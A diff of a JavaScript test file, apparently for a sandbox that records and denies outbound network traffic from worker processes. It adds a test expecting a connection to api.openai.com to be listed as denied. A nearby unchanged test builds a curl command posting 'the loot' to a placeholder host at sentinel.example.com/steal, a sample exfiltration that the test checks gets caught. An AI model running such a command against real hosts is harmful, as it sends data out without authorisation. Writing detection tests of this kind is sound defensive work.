@@ -245,6 +245,14 @@ describe.each(KINDS)('children that no preload reaches ($kind)', kind => {
     expect(record.treatment.egress).toEqual([]);
   });
 
+  test.runIf(kind.kind === 'namespace')('a client that brings its own list of authorities, and no way for ours, is listed', async () => {
+    const handle = 'await run(message).catch(() => {}); reply(200, { reply: await ask(message) });';
+    const code = running(NODE, '{ PATH: process.env.PATH }').replace(/reply\(200, \{ reply: JSON\.parse.*?\}\);/, handle);
+    const record = await startWorker(job({ root: shelf.layOut({ 'agent.mjs': code }) }), { isolation: kind });
+    expect(record.problem).toBeUndefined();
+    expect(record.treatment.egress).toMatchObject([{ host: 'api.openai.com', port: 443, outcome: 'denied' }]);
+  });
+
   test.runIf(has('curl'))('and what they send elsewhere is listed', async () => {
     const curl = ['curl', '-sS', '-m', '5', '-d', 'the loot', 'https://sentinel.example.com/steal'];
     const handle = 'await run(message).catch(() => {}); reply(200, { reply: await ask(message) });';
